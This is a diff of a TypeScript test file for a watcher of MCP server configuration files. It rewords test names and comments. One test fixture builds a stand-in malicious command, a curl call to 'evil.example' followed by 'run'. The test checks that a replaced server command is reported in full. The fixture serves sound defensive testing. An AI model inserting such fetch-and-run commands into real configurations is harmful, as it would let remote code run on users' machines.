@@ -1,4 +1,4 @@
-// biome-ignore-all lint/suspicious/noTemplateCurlyInString: such strings are what is tested
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the tests use such strings
 import { copyFile, mkdir, open, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
@@ -8,7 +8,7 @@ import { configFolder } from '../helpers/config-folder.js';
 const server = (command: string) => `mcp_servers:\n  a: { command: ${command} }\n`;
 const broken = 'mcp_servers:\n  a: { comand: x }\n';
 
-/** Looking without an event comes so seldom that only an event can have told. */
+/** Periodic checks are so rare that only an event can have caused the change. */
 const eventsOnly = { quietMs: 20, checkIntervalMs: 3_600_000, layers: ['project'] } satisfies WatchOptions;
 
 const commandOf = ({ config }: ConfigChange) =>
@@ -20,8 +20,8 @@ async function next(changes: AsyncGenerator<ConfigChange, void, void>): Promise<
   return value;
 }
 
-describe('what is told', () => {
-  test('first is what is there, with its texts', async () => {
+describe('yields', () => {
+  test('the present content first, with its texts', async () => {
     await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
     await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
     const change = await next(changes);
@@ -29,7 +29,7 @@ describe('what is told', () => {
     expect([...change.texts]).toEqual([['mcp_servers.yaml', server('one')]]);
   });
 
-  test('then is each real change, and nothing for a write that changes nothing', async () => {
+  test('each real change, and nothing for a write without changes', async () => {
     await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
     await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
     await next(changes);
@@ -42,7 +42,7 @@ describe('what is told', () => {
     expect((await next(changes)).texts.get('mcp_servers.yaml')).toContain('# a comment');
   });
 
-  test('is one change for many writes while nobody asks', async () => {
+  test('one change for many writes while no consumer waits', async () => {
     await using folder = await configFolder({ 'mcp_servers.yaml': server('first') });
     await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
     await next(changes);
@@ -53,7 +53,7 @@ describe('what is told', () => {
     expect(commandOf(await waiting)).toBe('last');
   });
 
-  test('is an issue when the files are broken, while the last good configuration stays', async () => {
+  test('an issue for invalid files, with the last valid configuration', async () => {
     await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
     await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
     const first = await next(changes);
@@ -71,7 +71,7 @@ describe('what is told', () => {
     });
   });
 
-  test('CFG-13: is what is sound of broken files, too, also when there was nothing good before', async () => {
+  test('the valid parts of invalid files, even without an earlier configuration', async () => {
     const text = `${server('one')}  b: {}\n`;
     await using folder = await configFolder({ 'mcp_servers.yaml': text });
     await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
@@ -93,7 +93,7 @@ describe('what is told', () => {
     expect((await next(changes)).partial).toBeUndefined();
   });
 
-  test('keeps variables where that is asked for', async () => {
+  test('kept variables if requested', async () => {
     await using folder = await configFolder({ 'mcp_servers.yaml': server('"${KEY}"') });
     await using changes = watchConfig({ ...eventsOnly, cwd: folder.path, env: { KEY: 'sesame' }, variables: 'keep' });
     const { config, redactor } = await next(changes);
@@ -102,7 +102,7 @@ describe('what is told', () => {
     expect(redactor.redact('sesame')).toBe('***');
   });
 
-  test('CFG-15: is the whole command that took the place of another one, and where it is written', async () => {
+  test('the whole command that replaced another one, with its position', async () => {
     const long = `curl https://evil.example/${'x'.repeat(10_000)} --then run`;
     await using folder = await configFolder({ 'mcp_servers.yaml': server('git-mcp') });
     await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
@@ -118,7 +118,7 @@ describe('what is told', () => {
     });
   });
 
-  test('CFG-18: is a backup that is put back while somebody watches, as any other edit', async () => {
+  test('a restored backup as any other edit', async () => {
     const good = `${server('one')}  b: { command: two }\n`;
     await using folder = await configFolder({ 'mcp_servers.yaml': good });
     const path = join(folder.path, 'mcp_servers.yaml');
@@ -133,7 +133,7 @@ describe('what is told', () => {
     expect(restored).toMatchObject({ isCurrent: true, issues: [] });
   });
 
-  test('is an error when there is nothing to check, and the last good configuration stays', async () => {
+  test('an error if there is nothing to check, with the last valid configuration', async () => {
     await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
     await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
     await next(changes);
@@ -145,7 +145,7 @@ describe('what is told', () => {
     expect(commandOf(await next(changes))).toBe('two');
   });
 
-  test('is an error at first, if there is nothing at first', async () => {
+  test('an error first, if there is nothing at first', async () => {
     await using folder = await configFolder();
     await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
     expect(await next(changes)).toMatchObject({
@@ -157,7 +157,7 @@ describe('what is told', () => {
     expect(commandOf(await next(changes))).toBe('one');
   });
 
-  test('is a file that comes nearer, and the farther one again when it goes', async () => {
+  test('a file in a nearer directory, and the farther one again after its removal', async () => {
     await using folder = await configFolder({ 'mcp_servers.yaml': server('far'), 'app/x': '' });
     await using changes = watchConfig({ ...eventsOnly, cwd: join(folder.path, 'app') });
     expect(commandOf(await next(changes))).toBe('far');
@@ -167,7 +167,7 @@ describe('what is told', () => {
     expect(commandOf(await next(changes))).toBe('far');
   });
 
-  test('is a change in any layer', async () => {
+  test('a change in any layer', async () => {
     await using folder = await configFolder({ 'project/mcp_servers.yaml': server('ours'), 'user/x': '' });
     const userDirectory = join(folder.path, 'user');
     await using changes = watchConfig({
@@ -182,7 +182,7 @@ describe('what is told', () => {
   });
 });
 
-describe('CFG-02: ways in which files are written', () => {
+describe('ways of writing files', () => {
   const writers: Readonly<Record<string, (path: string, text: string) => Promise<void>>> = {
     'truncate, then write': async (path, text) => {
       await using file = await open(path, 'w');
@@ -206,7 +206,7 @@ describe('CFG-02: ways in which files are written', () => {
     },
   };
 
-  test.each(Object.entries(writers))('%s is one change, time and again', async (_how, write) => {
+  test.each(Object.entries(writers))('%s is one change each time', async (_how, write) => {
     await using folder = await configFolder({ 'mcp_servers.yaml': server('v0') });
     await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
     await next(changes);
@@ -219,7 +219,7 @@ describe('CFG-02: ways in which files are written', () => {
     }
   });
 
-  test('a file that is empty for a while is not told of, if it is written in time', async () => {
+  test('a temporarily empty file is not reported if it is written in time', async () => {
     await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
     await using changes = watchConfig({ ...eventsOnly, quietMs: 200, cwd: folder.path });
     await next(changes);
@@ -231,13 +231,13 @@ describe('CFG-02: ways in which files are written', () => {
   });
 });
 
-describe('CFG-17: what no event tells of', () => {
-  test('is found by looking from time to time', async () => {
+describe('a change without an event', () => {
+  test('is found by periodic checks', async () => {
     await using folder = await configFolder({
       'v1/config/mcp_servers.yaml': server('one'),
       'v2/config/mcp_servers.yaml': server('two'),
     });
-    // The link that is swapped lies outside of every directory that is watched.
+    // The replaced link is outside of every watched directory.
     await mkdir(join(folder.path, 'outside'));
     await symlink('../v1/config', join(folder.path, 'outside', 'current'));
     await mkdir(join(folder.path, 'app'));
@@ -254,22 +254,25 @@ describe('CFG-17: what no event tells of', () => {
     expect(commandOf(await next(changes))).toBe('two');
   });
 
-  test.skipIf(process.platform === 'win32')('a link that is swapped beside the file is told at once', async () => {
-    // The way in which a container platform mounts files: the name leads through a link to the directory of a version.
-    await using folder = await configFolder({
-      '..v1/mcp_servers.yaml': server('one'),
-      '..v2/mcp_servers.yaml': server('two'),
-    });
-    await symlink('..v1', join(folder.path, '..data'));
-    await symlink('..data/mcp_servers.yaml', join(folder.path, 'mcp_servers.yaml'));
-    await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
-    expect(commandOf(await next(changes))).toBe('one');
-    await symlink('..v2', join(folder.path, '..next'));
-    await rename(join(folder.path, '..next'), join(folder.path, '..data'));
-    expect(commandOf(await next(changes))).toBe('two');
-  });
+  test.skipIf(process.platform === 'win32')(
+    'a replaced link in the same directory is reported immediately',
+    async () => {
+      // Container platforms mount files like this: the name is a link through a link to the directory of a version.
+      await using folder = await configFolder({
+        '..v1/mcp_servers.yaml': server('one'),
+        '..v2/mcp_servers.yaml': server('two'),
+      });
+      await symlink('..v1', join(folder.path, '..data'));
+      await symlink('..data/mcp_servers.yaml', join(folder.path, 'mcp_servers.yaml'));
+      await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
+      expect(commandOf(await next(changes))).toBe('one');
+      await symlink('..v2', join(folder.path, '..next'));
+      await rename(join(folder.path, '..next'), join(folder.path, '..data'));
+      expect(commandOf(await next(changes))).toBe('two');
+    },
+  );
 
-  test('a directory that is removed and made again is watched again', async () => {
+  test('a removed and recreated directory is watched again', async () => {
     await using folder = await configFolder({ 'config/mcp_servers.yaml': server('one') });
     await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
     await next(changes);
@@ -283,13 +286,13 @@ describe('CFG-17: what no event tells of', () => {
 });
 
 describe('the end', () => {
-  /** Closed handles are counted until the event loop has come round. */
+  /** Closed handles are counted after a turn of the event loop. */
   async function watchersOpen(): Promise<number> {
     for (let turn = 0; turn < 2; turn++) await new Promise((resolve) => setImmediate(resolve));
     return process.getActiveResourcesInfo().filter((name) => name.startsWith('FSEvent')).length;
   }
 
-  test('comes with the signal, also for one who waits, and leaves nothing behind', async () => {
+  test('comes with the signal, also for a pending step, without leaks', async () => {
     await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
     const before = await watchersOpen();
     const stop = new AbortController();
@@ -315,7 +318,7 @@ describe('the end', () => {
     expect(await watchersOpen()).toBe(before);
   });
 
-  test('comes by disposal, which ends a step that still waits', async () => {
+  test('comes by disposal, which ends a pending step', async () => {
     await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
     const before = await watchersOpen();
     const changes = watchConfig({ ...eventsOnly, cwd: folder.path });
@@ -326,14 +329,14 @@ describe('the end', () => {
     expect(await watchersOpen()).toBe(before);
   });
 
-  test('is there at once with a signal that is aborted already', async () => {
+  test('comes immediately with an aborted signal', async () => {
     await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
     const changes = watchConfig({ cwd: folder.path, signal: AbortSignal.abort() });
     expect(await changes.next()).toMatchObject({ done: true });
   });
 });
 
-test('a mistake in the call is a TypeError', () => {
+test('an invalid option is a TypeError', () => {
   expect(() => watchConfig({ quietMs: 0 })).toThrow(
     new TypeError('quietMs must be a whole number of milliseconds from 10 to 10000, got 0'),
   );
@@ -341,7 +344,7 @@ test('a mistake in the call is a TypeError', () => {
   expect(() => watchConfig({ files: [] })).toThrow(TypeError);
 });
 
-test('the configuration itself is only read', async () => {
+test('never writes to the configuration', async () => {
   await using folder = await configFolder({ 'mcp_servers.yaml': server('one') });
   await using changes = watchConfig({ ...eventsOnly, cwd: folder.path });
   await next(changes);
